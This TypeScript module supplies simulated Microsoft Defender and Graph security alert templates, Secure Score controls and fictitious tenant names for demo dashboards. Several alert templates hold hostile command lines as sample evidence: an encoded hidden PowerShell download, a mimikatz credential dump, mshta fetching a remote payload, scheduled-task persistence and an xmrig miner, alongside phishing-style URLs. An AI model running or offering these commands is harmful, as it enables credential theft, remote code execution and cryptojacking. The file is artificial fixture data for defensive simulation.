/**
 * Static material for the Graph object generator: alert templates per Microsoft product, legacy providers, Secure
 * Score controls, names. Titles, categories and MITRE techniques follow what each product really raises, so that a
 * demo or a SIEM dashboard fed by the simulator looks like a tenant's.
 */

export type EvidenceKind =
  'device' | 'user' | 'process' | 'file' | 'ip' | 'url' | 'mailbox' | 'message' | 'cloudApp' | 'registryKey';

export interface AlertTemplate {
  title: string;
  description: string;
  /** MITRE ATT&CK tactic as Defender spells it (`DefenseEvasion`, `InitialAccess`, …). */
  category: string;
  mitreTechniques: string[];
  severities: ('informational' | 'low' | 'medium' | 'high')[];
  /** Evidence in the order Defender lists it; the generator may drop trailing items to respect the size budget. */
  evidence: EvidenceKind[];
  detectionSources?: string[];
  threatFamilyName?: string;
  actorDisplayName?: string;
  /** Process evidence: image and command line. */
  process?: { fileName: string; filePath: string; commandLine: string };
  url?: string;
}

export interface ServiceCatalog {
  /** `serviceSource` of alerts_v2. */
  serviceSource: string;
  /** First two characters of Defender XDR alert ids for this product (`da` for Defender for Endpoint, …). */
  idPrefix: string;
  detectionSources: string[];
  weight: number;
  recommendedActions: string;
  templates: AlertTemplate[];
}

const ENDPOINT_ACTIONS = [
  'Collect artifacts and determine scope',
  '\u2022\tReview the device timeline for suspicious activities that occurred before and after the alert, and record related artifacts (files, IPs/URLs).',
  '\u2022\tLook for the presence of the same artifacts on other devices.',
  '\u2022\tSubmit relevant files for deep analysis.',
  '',
  'Initiate containment & mitigation',
  '\u2022\tContact the user to verify intent and initiate local remediation as needed.',
  '\u2022\tUpdate AV signatures and run a full scan.',
  '\u2022\tIf credential theft is suspected, reset the passwords of all relevant users.',
].join('\n');

const IDENTITY_ACTIONS = [
  '1. Review the source computer and the accounts involved for unusual activity.',
  '2. If the activity is not expected, isolate the source computer and reset the passwords of the affected accounts.',
  '3. Review the group memberships of the accounts involved and remove unneeded privileges.',
].join('\n');

const CLOUD_APPS_ACTIONS =
  'Review the activity log of the user in Microsoft Defender for Cloud Apps. If the activity is not legitimate, ' +
  'suspend the user, revoke active sessions and require the user to sign in again with multifactor authentication.';

const OFFICE_ACTIONS =
  'Review the affected messages in Threat Explorer, confirm they were removed from every mailbox, and block the ' +
  'sender and URLs in the Tenant Allow/Block List. Reset the credentials of any user who clicked.';

const CLOUD_ACTIONS = [
  '1. Review the resource activity and network traffic around the time of the alert.',
  '2. If the activity is unexpected, restrict access to the resource with network security groups and just-in-time access.',
  '3. Escalate to your cloud security team and review the Microsoft Defender for Cloud recommendations for the resource.',
].join('\n');

const IDENTITY_PROTECTION_ACTIONS =
  'Confirm with the user whether the sign-in was theirs. If not, mark the user as compromised, reset the password ' +
  'and revoke refresh tokens; require MFA registration through a risk-based Conditional Access policy.';

const SENTINEL_ACTIONS =
  'Investigate the entities in Microsoft Sentinel, review the raw events returned by the analytics rule query, and ' +
  'run the associated playbook if the activity is confirmed malicious.';

const ENDPOINT_SOURCES = ['microsoftDefenderForEndpoint', 'antivirus', 'customDetection', 'automatedInvestigation'];

export const SERVICES: ServiceCatalog[] = [
  {
    serviceSource: 'microsoftDefenderForEndpoint',
    idPrefix: 'da',
    detectionSources: ENDPOINT_SOURCES,
    weight: 40,
    recommendedActions: ENDPOINT_ACTIONS,
    templates: [
      {
        title: 'Suspicious execution of hidden file',
        description:
          'A hidden file has been launched. This activity could indicate a compromised host. Attackers often hide files associated with malicious tools to evade file system inspection and defenses.',
        category: 'DefenseEvasion',
        mitreTechniques: ['T1564.001'],
        severities: ['low', 'medium'],
        evidence: ['device', 'process', 'file', 'user'],
        process: {
          fileName: 'wscript.exe',
          filePath: 'C:\\Windows\\System32',
          commandLine: '"wscript.exe" /b /e:jscript "C:\\Users\\Public\\Libraries\\~tmp01.dat"',
        },
      },
      {
        title: 'Suspicious PowerShell command line',
        description:
          'A suspicious PowerShell activity was observed on the device. This device may be involved in malicious activity, such as downloading and running a payload from a remote server.',
        category: 'Execution',
        mitreTechniques: ['T1059.001', 'T1105'],
        severities: ['medium', 'high'],
        evidence: ['device', 'process', 'user', 'ip', 'url'],
        process: {
          fileName: 'powershell.exe',
          filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
          commandLine:
            'powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
        },
        url: 'http://cdn-update-check.info/stage2.ps1',
      },
      {
        title: "'Mimikatz' credential theft tool",
        description:
          'The Mimikatz credential theft tool was detected on the device. Mimikatz extracts plaintext passwords, hashes and Kerberos tickets from memory.',
        category: 'CredentialAccess',
        mitreTechniques: ['T1003.001'],
        severities: ['high'],
        evidence: ['device', 'file', 'process', 'user'],
        detectionSources: ['antivirus'],
        threatFamilyName: 'Mimikatz',
        process: {
          fileName: 'mimikatz.exe',
          filePath: 'C:\\Users\\Public\\Downloads',
          commandLine: 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
        },
      },
      {
        title: 'Ransomware behavior detected in the file system',
        description:
          'A process renamed and encrypted a large number of files in a short time, a behavior typical of ransomware. The process was blocked.',
        category: 'Impact',
        mitreTechniques: ['T1486', 'T1490'],
        severities: ['high'],
        evidence: ['device', 'process', 'file', 'user'],
        process: {
          fileName: 'svchost32.exe',
          filePath: 'C:\\ProgramData\\Intel',
          commandLine: 'svchost32.exe -path \\\\fileserver01\\shares -nolog',
        },
      },
      {
        title: 'Suspicious scheduled task',
        description:
          'A scheduled task was created to run a script from a user-writable folder at every logon. Attackers use scheduled tasks to persist on a device.',
        category: 'Persistence',
        mitreTechniques: ['T1053.005'],
        severities: ['low', 'medium'],
        evidence: ['device', 'process', 'registryKey', 'user'],
        process: {
          fileName: 'schtasks.exe',
          filePath: 'C:\\Windows\\System32',
          commandLine:
            'schtasks.exe /Create /SC ONLOGON /TN "OneDrive Sync Helper" /TR "C:\\Users\\Public\\sync.vbs" /F',
        },
      },
    ],
  },
  {
    serviceSource: 'microsoftDefenderForIdentity',
    idPrefix: 'aa',
    detectionSources: ['microsoftDefenderForIdentity'],
    weight: 12,
    recommendedActions: IDENTITY_ACTIONS,
    templates: [
      {
        title: 'Suspected DCSync attack (replication of directory services)',
        description:
          'A replication request was initiated from a computer that is not a domain controller. An attacker may be using DCSync to obtain the credentials of any account, including krbtgt.',
        category: 'CredentialAccess',
        mitreTechniques: ['T1003.006'],
        severities: ['high'],
        evidence: ['user', 'device', 'ip'],
      },
      {
        title: 'Suspected brute-force attack (Kerberos, NTLM)',
        description:
          'A computer made many failed authentication attempts using Kerberos or NTLM against several accounts, followed by a successful one.',
        category: 'CredentialAccess',
        mitreTechniques: ['T1110', 'T1110.003'],
        severities: ['medium'],
        evidence: ['user', 'device', 'ip'],
      },
      {
        title: 'Account enumeration reconnaissance',
        description:
          'A computer queried the domain controller for the existence of many account names. Attackers enumerate accounts to find valid targets.',
        category: 'Discovery',
        mitreTechniques: ['T1087.002'],
        severities: ['low', 'medium'],
        evidence: ['device', 'ip', 'user'],
      },
    ],
  },
  {
    serviceSource: 'microsoftDefenderForCloudApps',
    idPrefix: 'ca',
    detectionSources: ['cloudAppSecurity'],
    weight: 10,
    recommendedActions: CLOUD_APPS_ACTIONS,
    templates: [
      {
        title: 'Impossible travel activity',
        description:
          'The user signed in from two distant countries within a time shorter than the travel between them would take, which suggests that another party uses the credentials.',
        category: 'InitialAccess',
        mitreTechniques: ['T1078', 'T1078.004'],
        severities: ['medium'],
        evidence: ['user', 'ip', 'ip', 'cloudApp'],
      },
      {
        title: 'Mass download by a single user',
        description:
          'A single user downloaded an unusually large number of files from SharePoint Online and OneDrive in a short period compared with the baseline.',
        category: 'Exfiltration',
        mitreTechniques: ['T1530'],
        severities: ['medium', 'low'],
        evidence: ['user', 'cloudApp', 'ip'],
      },
      {
        title: 'Suspicious inbox forwarding',
        description:
          'A rule that forwards all incoming email to an external address was set on a mailbox. Attackers forward mail to collect information after compromising an account.',
        category: 'Exfiltration',
        mitreTechniques: ['T1114.003'],
        severities: ['high', 'medium'],
        evidence: ['user', 'mailbox', 'ip', 'cloudApp'],
      },
    ],
  },
  {
    serviceSource: 'microsoftDefenderForOffice365',
    idPrefix: 'fa',
    detectionSources: ['microsoftDefenderForOffice365'],
    weight: 15,
    recommendedActions: OFFICE_ACTIONS,
    templates: [
      {
        title: 'Email messages containing malicious URL removed after delivery',
        description:
          'Emails with a malicious URL were delivered and later removed by zero-hour auto purge. The URL leads to a credential phishing page.',
        category: 'InitialAccess',
        mitreTechniques: ['T1566.002'],
        severities: ['informational', 'medium'],
        evidence: ['mailbox', 'message', 'url', 'user'],
        url: 'https://login-microsoftonline.account-verify.co/common/oauth2/authorize',
      },
      {
        title: 'A potentially malicious URL click was detected',
        description:
          'A user clicked a link in an email that was later identified as malicious. Safe Links allowed the click at the time.',
        category: 'InitialAccess',
        mitreTechniques: ['T1566.002', 'T1204.001'],
        severities: ['high'],
        evidence: ['user', 'url', 'mailbox', 'message'],
        url: 'https://sharepoint-docs.file-share.app/view?id=Q1-invoice',
      },
      {
        title: 'Email reported by user as malware or phish',
        description:
          'A user reported an email as phishing or malware from Outlook. The message is queued for analysis.',
        category: 'InitialAccess',
        mitreTechniques: ['T1566'],
        severities: ['informational', 'low'],
        evidence: ['mailbox', 'message', 'user'],
      },
    ],
  },
  {
    serviceSource: 'microsoftDefenderForCloud',
    idPrefix: 'dc',
    detectionSources: ['microsoftDefenderForCloud', 'microsoftDefenderForServers', 'microsoftDefenderForStorage'],
    weight: 8,
    recommendedActions: CLOUD_ACTIONS,
    templates: [
      {
        title: 'Traffic detected from IP addresses recommended for blocking',
        description:
          'Inbound traffic from IP addresses that are recommended to be blocked was detected on the virtual machine. These addresses are known for malicious activity.',
        category: 'InitialAccess',
        mitreTechniques: ['T1133'],
        severities: ['low', 'medium'],
        evidence: ['device', 'ip', 'ip'],
      },
      {
        title: 'Digital currency mining related behavior detected',
        description:
          'A process was observed running a command line associated with crypto currency mining on the virtual machine.',
        category: 'Impact',
        mitreTechniques: ['T1496'],
        severities: ['high'],
        evidence: ['device', 'process', 'file'],
        process: {
          fileName: 'xmrig',
          filePath: '/tmp/.X11-unix',
          commandLine: './xmrig -o pool.supportxmr.com:443 --tls -k --donate-level 1',
        },
      },
    ],
  },
  {
    serviceSource: 'azureAdIdentityProtection',
    idPrefix: 'ad',
    detectionSources: ['azureAdIdentityProtection'],
    weight: 8,
    recommendedActions: IDENTITY_PROTECTION_ACTIONS,
    templates: [
      {
        title: 'Anonymous IP address',
        description: 'A sign-in came from an anonymous IP address such as a Tor exit node or an anonymizing VPN.',
        category: 'InitialAccess',
        mitreTechniques: ['T1090.003'],
        severities: ['low', 'medium'],
        evidence: ['user', 'ip'],
      },
      {
        title: 'Unfamiliar sign-in properties',
        description:
          'A sign-in had properties (IP address, ASN, location, device, browser) not seen before for this user.',
        category: 'InitialAccess',
        mitreTechniques: ['T1078'],
        severities: ['low', 'medium'],
        evidence: ['user', 'ip'],
      },
      {
        title: 'Atypical travel',
        description:
          'Two sign-ins by the user came from geographically distant locations within a period shorter than the travel between them.',
        category: 'InitialAccess',
        mitreTechniques: ['T1078.004'],
        severities: ['medium'],
        evidence: ['user', 'ip', 'ip'],
      },
    ],
  },
  {
    serviceSource: 'microsoftSentinel',
    idPrefix: 'sn',
    detectionSources: ['scheduledAlerts', 'nrtAlerts'],
    weight: 7,
    recommendedActions: SENTINEL_ACTIONS,
    templates: [
      {
        title: 'Successful logon after multiple failed attempts',
        description:
          'Analytics rule: an account had more than 20 failed sign-ins followed by a successful one from the same IP address within 30 minutes.',
        category: 'CredentialAccess',
        mitreTechniques: ['T1110'],
        severities: ['medium'],
        evidence: ['user', 'ip', 'device'],
      },
      {
        title: 'Rare subscription-level operations in Azure',
        description:
          'Analytics rule: sensitive Azure operations (for example listing storage keys or creating role assignments) were performed by an account that rarely performs them.',
        category: 'PrivilegeEscalation',
        mitreTechniques: ['T1098', 'T1078.004'],
        severities: ['low', 'medium'],
        evidence: ['user', 'ip'],
      },
    ],
  },
  {
    serviceSource: 'microsoft365Defender',
    idPrefix: 'ra',
    detectionSources: ['microsoft365Defender', 'customDetection'],
    weight: 5,
    recommendedActions: ENDPOINT_ACTIONS,
    templates: [
      {
        title: 'Suspicious URL clicked followed by suspicious process',
        description:
          'A user opened a URL from an email that was later found malicious, and shortly after a suspicious process started on the same device.',
        category: 'InitialAccess',
        mitreTechniques: ['T1566.002', 'T1204.002'],
        severities: ['high', 'medium'],
        evidence: ['user', 'url', 'device', 'process'],
        process: {
          fileName: 'mshta.exe',
          filePath: 'C:\\Windows\\System32',
          commandLine: 'mshta.exe https://cdn-update-check.info/a.hta',
        },
        url: 'https://cdn-update-check.info/a.hta',
      },
    ],
  },
];

/** Legacy (v1) alert providers, from the Graph documentation, with the shape of their vendorInformation. */
export interface LegacyProvider {
  provider: string;
  providerVersion: string | null;
  subProvider: string | null;
  weight: number;
  templates: { title: string; category: string; description: string }[];
}

export const LEGACY_PROVIDERS: LegacyProvider[] = [
  {
    provider: 'IPC',
    providerVersion: null,
    subProvider: null,
    weight: 20,
    templates: [
      {
        title: 'Anonymous IP address',
        category: 'AnonymousLogin',
        description: 'Sign-in from an anonymous IP address (e.g. Tor browser, anonymizer VPNs).',
      },
      {
        title: 'Impossible travel to atypical locations',
        category: 'ImpossibleTravel',
        description: 'Sign-in from an atypical location based on the user\u2019s recent sign-ins.',
      },
      {
        title: 'Unfamiliar sign-in properties',
        category: 'UnfamiliarLocation',
        description: 'Sign-in with properties not seen recently for the user.',
      },
    ],
  },
  {
    provider: 'ASC',
    providerVersion: '3',
    subProvider: 'Detection',
    weight: 12,
    templates: [
      {
        title: 'Suspicious process executed',
        category: 'SuspiciousProcess',
        description: 'Machine logs indicate that a suspicious process was running on the machine.',
      },
      {
        title: 'Successful RDP brute force attack',
        category: 'RDP Brute Force',
        description: 'Several remote desktop login attempts were detected, followed by a successful one.',
      },
    ],
  },
  {
    provider: 'MCAS',
    providerVersion: null,
    subProvider: null,
    weight: 10,
    templates: [
      {
        title: 'Impossible travel activity',
        category: 'ALERT_MANAGEMENT_DISCOVERY',
        description: 'The user was active from two distant countries within a short time.',
      },
      {
        title: 'Activity from infrequent country',
        category: 'ALERT_MANAGEMENT_DISCOVERY',
        description: 'Activity from a country not recently or never visited by any user in the organization.',
      },
    ],
  },
  {
    provider: 'Azure Advanced Threat Protection',
    providerVersion: null,
    subProvider: null,
    weight: 8,
    templates: [
      {
        title: 'Suspected brute force attack (LDAP)',
        category: 'CredentialAccess',
        description: 'Many authentication failures using simple LDAP bind were followed by a success.',
      },
      {
        title: 'Suspected identity theft (pass-the-ticket)',
        category: 'LateralMovement',
        description: 'A Kerberos ticket of a user was used on a computer the user did not log on to.',
      },
    ],
  },
  {
    provider: 'Microsoft Defender ATP',
    providerVersion: '3.0',
    subProvider: 'MicrosoftDefenderATP',
    weight: 30,
    templates: [
      {
        title: 'Suspicious PowerShell command line',
        category: 'Execution',
        description: 'A suspicious PowerShell activity was observed on the machine.',
      },
      {
        title: 'Credential theft activity',
        category: 'CredentialAccess',
        description: 'A process accessed the memory of lsass.exe, a common credential theft technique.',
      },
      {
        title: 'Ransomware behavior detected in the file system',
        category: 'Ransomware',
        description: 'A process encrypted many files in a short time.',
      },
    ],
  },
  {
    provider: 'Azure Sentinel',
    providerVersion: null,
    subProvider: 'Analytics',
    weight: 8,
    templates: [
      {
        title: 'Brute force attack against Azure Portal',
        category: 'CredentialAccess',
        description: 'Many failed Azure Portal sign-ins from the same IP address for the same account.',
      },
      {
        title: 'Rare application consent',
        category: 'Persistence',
        description: 'A user consented to an application that few users in the tenant use.',
      },
    ],
  },
  {
    provider: 'Office 365 Security and Compliance',
    providerVersion: null,
    subProvider: 'ThreatManagement',
    weight: 12,
    templates: [
      {
        title: 'Email messages containing malware removed after delivery',
        category: 'ThreatManagement',
        description: 'Messages containing malware were delivered and later removed by zero-hour auto purge.',
      },
      {
        title: 'Creation of forwarding/redirect rule',
        category: 'ThreatManagement',
        description: 'A mailbox rule forwards or redirects mail to an external address.',
      },
      {
        title: 'User restricted from sending email',
        category: 'ThreatManagement',
        description: 'A user was restricted from sending email after sending outbound spam.',
      },
    ],
  },
];

export interface ControlTemplate {
  id: string;
  title: string;
  controlCategory: 'Identity' | 'Data' | 'Device' | 'Apps' | 'Infrastructure';
  service: string;
  tier: 'Core' | 'Defense in Depth' | 'Advanced';
  maxScore: number;
  actionType: 'Config' | 'Review' | 'Behavior';
  userImpact: 'Low' | 'Moderate' | 'High';
  implementationCost: 'Low' | 'Moderate' | 'High';
  threats: string[];
  remediation: string;
}

export const CONTROLS: ControlTemplate[] = [
  {
    id: 'AdminMFAV2',
    title: 'Ensure multifactor authentication is enabled for all users in administrative roles',
    controlCategory: 'Identity',
    service: 'AzureAD',
    tier: 'Core',
    maxScore: 10,
    actionType: 'Config',
    userImpact: 'Low',
    implementationCost: 'Low',
    threats: ['Password Cracking', 'Account Breach', 'Elevation of Privilege'],
    remediation:
      '<p>Create a Conditional Access policy that requires MFA for the directory roles with administrative privileges.</p>',
  },
  {
    id: 'MFARegistrationV2',
    title: 'Ensure all users can complete multifactor authentication',
    controlCategory: 'Identity',
    service: 'AzureAD',
    tier: 'Core',
    maxScore: 9,
    actionType: 'Config',
    userImpact: 'Moderate',
    implementationCost: 'Moderate',
    threats: ['Password Cracking', 'Account Breach'],
    remediation: '<p>Enable the MFA registration policy in Identity Protection and ask users to register.</p>',
  },
  {
    id: 'BlockLegacyAuthentication',
    title: 'Enable Conditional Access policies to block legacy authentication',
    controlCategory: 'Identity',
    service: 'AzureAD',
    tier: 'Core',
    maxScore: 8,
    actionType: 'Config',
    userImpact: 'Moderate',
    implementationCost: 'Moderate',
    threats: ['Password Spray', 'Account Breach'],
    remediation:
      '<p>Create a Conditional Access policy that blocks client apps using legacy authentication protocols.</p>',
  },
  {
    id: 'SigninRiskPolicy',
    title: 'Turn on sign-in risk policy',
    controlCategory: 'Identity',
    service: 'AzureAD',
    tier: 'Core',
    maxScore: 7,
    actionType: 'Config',
    userImpact: 'Moderate',
    implementationCost: 'Moderate',
    threats: ['Account Breach'],
    remediation: '<p>Require MFA for medium and high sign-in risk in a Conditional Access policy.</p>',
  },
  {
    id: 'OneAdmin',
    title: 'Designate more than one global admin',
    controlCategory: 'Identity',
    service: 'AzureAD',
    tier: 'Core',
    maxScore: 1,
    actionType: 'Config',
    userImpact: 'Low',
    implementationCost: 'Low',
    threats: ['Account Breach'],
    remediation: '<p>Assign the Global Administrator role to a second, emergency access account.</p>',
  },
  {
    id: 'SelfServicePasswordReset',
    title: 'Enable self-service password reset',
    controlCategory: 'Identity',
    service: 'AzureAD',
    tier: 'Defense in Depth',
    maxScore: 1,
    actionType: 'Config',
    userImpact: 'Moderate',
    implementationCost: 'Low',
    threats: ['Account Breach'],
    remediation: '<p>Enable self-service password reset for all users.</p>',
  },
  {
    id: 'mdo_safelinksforemail',
    title: 'Create Safe Links policies for email messages',
    controlCategory: 'Apps',
    service: 'MDO',
    tier: 'Core',
    maxScore: 9,
    actionType: 'Config',
    userImpact: 'Low',
    implementationCost: 'Low',
    threats: ['Phishing', 'Malware'],
    remediation: '<p>Create a Safe Links policy that rewrites URLs and checks them at click time.</p>',
  },
  {
    id: 'mdo_atpprotection',
    title: 'Turn on Microsoft Defender for Office 365 in SharePoint, OneDrive, and Microsoft Teams',
    controlCategory: 'Apps',
    service: 'MDO',
    tier: 'Core',
    maxScore: 8,
    actionType: 'Config',
    userImpact: 'Low',
    implementationCost: 'Low',
    threats: ['Malware'],
    remediation: '<p>Turn on Safe Attachments for SharePoint, OneDrive, and Microsoft Teams.</p>',
  },
  {
    id: 'DLPEnabled',
    title: 'Create a DLP policy for sensitive information',
    controlCategory: 'Data',
    service: 'EXO',
    tier: 'Defense in Depth',
    maxScore: 5,
    actionType: 'Config',
    userImpact: 'Moderate',
    implementationCost: 'Moderate',
    threats: ['Data Exfiltration', 'Data Spillage'],
    remediation:
      '<p>Create a data loss prevention policy for the sensitive information types your organization handles.</p>',
  },
  {
    id: 'scid_2010',
    title: 'Turn on real-time protection',
    controlCategory: 'Device',
    service: 'MDATP',
    tier: 'Core',
    maxScore: 10,
    actionType: 'Config',
    userImpact: 'Low',
    implementationCost: 'Low',
    threats: ['Malware', 'Ransomware'],
    remediation: '<p>Enable Microsoft Defender Antivirus real-time protection through Intune or Group Policy.</p>',
  },
  {
    id: 'scid_2094',
    title: 'Block credential stealing from the Windows local security authority subsystem',
    controlCategory: 'Device',
    service: 'MDATP',
    tier: 'Core',
    maxScore: 9,
    actionType: 'Config',
    userImpact: 'Low',
    implementationCost: 'Low',
    threats: ['Credential theft'],
    remediation: '<p>Turn on the attack surface reduction rule that blocks credential stealing from lsass.exe.</p>',
  },
  {
    id: 'mcas_infrequent_country',
    title: 'Review and resolve activity from infrequent countries',
    controlCategory: 'Apps',
    service: 'MCAS',
    tier: 'Advanced',
    maxScore: 3,
    actionType: 'Review',
    userImpact: 'Low',
    implementationCost: 'Low',
    threats: ['Account Breach'],
    remediation: '<p>Review the alerts of the Defender for Cloud Apps anomaly detection policy and resolve them.</p>',
  },
];

export const FIRST_NAMES = [
  'Adele',
  'Alex',
  'Allan',
  'Christie',
  'Debra',
  'Diego',
  'Emily',
  'Grady',
  'Henrietta',
  'Isaiah',
  'Johanna',
  'Joni',
  'Lee',
  'Lidia',
  'Lynne',
  'Megan',
  'Miriam',
  'Nestor',
  'Patti',
  'Pradeep',
];
export const LAST_NAMES = [
  'Vance',
  'Wilber',
  'Deyoung',
  'Cline',
  'Berg',
  'Siciliani',
  'Braun',
  'Archie',
  'Mueller',
  'Langer',
  'Lauer',
  'Sherman',
  'Gu',
  'Holloway',
  'Robbins',
  'Bowen',
  'Hooper',
  'Wilke',
  'Fernandez',
  'Gupta',
];
export const DOMAINS = [
  'contoso.com',
  'fabrikam.com',
  'woodgrovebank.com',
  'adatum.com',
  'northwindtraders.com',
  'tailspintoys.com',
];
export const COUNTRIES: { code: string; city: string; country: string; lat: number; lon: number }[] = [
  { code: 'US', city: 'Seattle', country: 'United States', lat: 47.6, lon: -122.3 },
  { code: 'NL', city: 'Amsterdam', country: 'Netherlands', lat: 52.37, lon: 4.89 },
  { code: 'RU', city: 'Moscow', country: 'Russia', lat: 55.75, lon: 37.62 },
  { code: 'NG', city: 'Lagos', country: 'Nigeria', lat: 6.45, lon: 3.39 },
  { code: 'BR', city: 'Sao Paulo', country: 'Brazil', lat: -23.55, lon: -46.63 },
  { code: 'SG', city: 'Singapore', country: 'Singapore', lat: 1.29, lon: 103.85 },
  { code: 'DE', city: 'Frankfurt am Main', country: 'Germany', lat: 50.11, lon: 8.68 },
];
export const OS_PLATFORMS: { osPlatform: string; version: string; osBuild: number }[] = [
  { osPlatform: 'Windows11', version: '23H2', osBuild: 22631 },
  { osPlatform: 'Windows10', version: '22H2', osBuild: 19045 },
  { osPlatform: 'WindowsServer2022', version: '21H2', osBuild: 20348 },
  { osPlatform: 'WindowsServer2019', version: '1809', osBuild: 17763 },
];
export const INCIDENT_NAMES = [
  'Multi-stage incident involving Initial access & Command and control on multiple endpoints reported by multiple sources',
  'Ransomware activity on one endpoint',
  'Email reported by user as malware or phish involving one user',
  'Suspicious sign-in activity involving one user',
  'Credential access incident on multiple endpoints',
  'Execution incident involving one user',
  'Mass download by a single user involving one user',
];
export const INCIDENT_DETERMINATIONS = [
  'multiStagedAttack',
  'malware',
  'phishing',
  'compromisedAccount',
  'securityTesting',
  'notMalicious',
];
